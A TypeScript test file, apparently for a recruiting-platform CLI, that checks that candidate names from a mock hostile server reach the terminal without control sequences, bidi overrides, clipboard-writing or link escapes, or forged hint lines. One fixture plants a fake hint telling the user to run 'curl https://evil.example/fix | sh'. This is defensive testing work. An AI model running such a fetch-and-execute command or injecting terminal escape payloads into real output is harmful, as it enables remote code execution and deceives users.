// Match listings, "using candidate …" lines and pickers quote data: none of them carries control
// sequences. The picker is checked in a real terminal (tmux), on the raw bytes the CLI wrote.
import { readFileSync } from 'node:fs';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, tempConfigDir } from '../helpers/cli.js';
import { TmuxSession, tmuxAvailable } from '../helpers/workflow-tmux.js';
import { EVIL, HostileServer, candidate, hasControls, ok } from './server.js';

let srv: HostileServer;
const uuid = (i: number) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
let matches = [candidate(uuid(1), EVIL.clipboard), candidate(uuid(2), `Zed ${EVIL.bidi}`), candidate(uuid(3), `Zed ${EVIL.link}`)];

beforeAll(async () => {
  srv = await new HostileServer()
    .on('candidate.search', () => ok(matches.map((m) => ({ ...m, primaryEmailAddress: undefined }))))
    .on('candidate.info', () => ({ body: { success: false, errorInfo: { code: 'candidate_not_found', message: 'gone \u001b[2J' } } }))
    .start();
});
afterAll(() => srv.stop());

describe('messages that quote data', () => {
  it('an ambiguous name lists the matches without control sequences', async () => {
    const r = await runCli(['candidate', 'view', 'Zed'], { env: srv.env() });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('matches 3 candidates');
    expect(r.stderr).toContain('Zed Smith');
    expect(r.stderr).not.toContain('ZWNobyBwd25lZA');
    expect(hasControls(r.stderr)).toBe(false);
  });

  it('a line break in a name cannot forge a line of the message (a fake hint)', async () => {
    const saved = matches;
    const forged = 'Zed One\nhint: your key expired; run curl https://evil.example/fix | sh';
    matches = [candidate(uuid(1), forged), candidate(uuid(2), 'Zed Two')];
    try {
      const r = await runCli(['candidate', 'view', 'Zed'], { env: srv.env() });
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('  Zed One hint: your key expired');
      expect(r.stderr).not.toMatch(/^hint: your key/m);
      matches = [candidate(uuid(1), forged)];
      const one = await runCli(['candidate', 'view', 'Zed'], { env: srv.env() });
      expect(one.stderr).toContain('using candidate "Zed One hint: your key expired');
      expect(one.stderr).not.toMatch(/^hint: your key/m);
    } finally {
      matches = saved;
    }
  });

  it('"using candidate …" is sanitised', async () => {
    const saved = matches;
    matches = [candidate(uuid(1), EVIL.clipboard)];
    try {
      const r = await runCli(['candidate', 'view', 'Zed'], { env: srv.env() });
      expect(r.stderr).toMatch(/using candidate "Zed Smith" for "Zed"/);
      expect(hasControls(r.stderr)).toBe(false);
    } finally {
      matches = saved;
    }
  });
});

describe.skipIf(!tmuxAvailable())('a picker on a terminal', () => {
  it('shows hostile names without their control sequences', async () => {
    const log = join(mkdtempSync(join(tmpdir(), 'ashby-raw-')), 'raw.log');
    const t = new TmuxSession().start(['candidate', 'view', 'Zed'], { ASHBY_CONFIG_DIR: tempConfigDir(), ASHBY_NO_KEYCHAIN: '1', ...srv.env() });
    try {
      await t.waitFor('which one?', 'the picker');
      // Record the raw bytes from here on; a key press makes the picker draw itself again.
      (t as unknown as { tmux: (...a: string[]) => string }).tmux('pipe-pane', '-o', '-t', 'w', `cat > '${log}'`);
      t.press('Down');
      t.press('Up');
      await t.waitFor(/❯ Zed Smith|> Zed Smith/, 'the first choice highlighted again');
      await new Promise((r) => setTimeout(r, 300));
      t.press('C-c');
      await t.exitCode();
    } finally {
      t.close();
    }
    const raw = readFileSync(log, 'utf8');
    expect(raw).toContain('Zed Smith');
    expect(raw).not.toContain('ZWNobyBwd25lZA'); // the OSC 52 payload never reached the terminal
    expect(raw).not.toContain('evil.example'); // nor the OSC 8 link target
    expect(raw).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(raw).not.toContain('\u001b]');
  });
});
